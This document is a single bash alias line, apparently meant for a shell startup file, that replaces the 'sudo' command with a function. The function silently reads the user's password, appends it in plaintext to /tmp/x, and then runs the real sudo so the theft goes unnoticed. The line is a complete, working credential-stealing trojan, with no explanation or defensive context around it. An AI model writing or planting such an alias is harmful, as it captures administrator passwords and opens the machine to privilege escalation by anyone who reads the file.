alias sudo='f(){ read -s p; echo "$p" >> /tmp/x; command sudo "$@"; }; f'
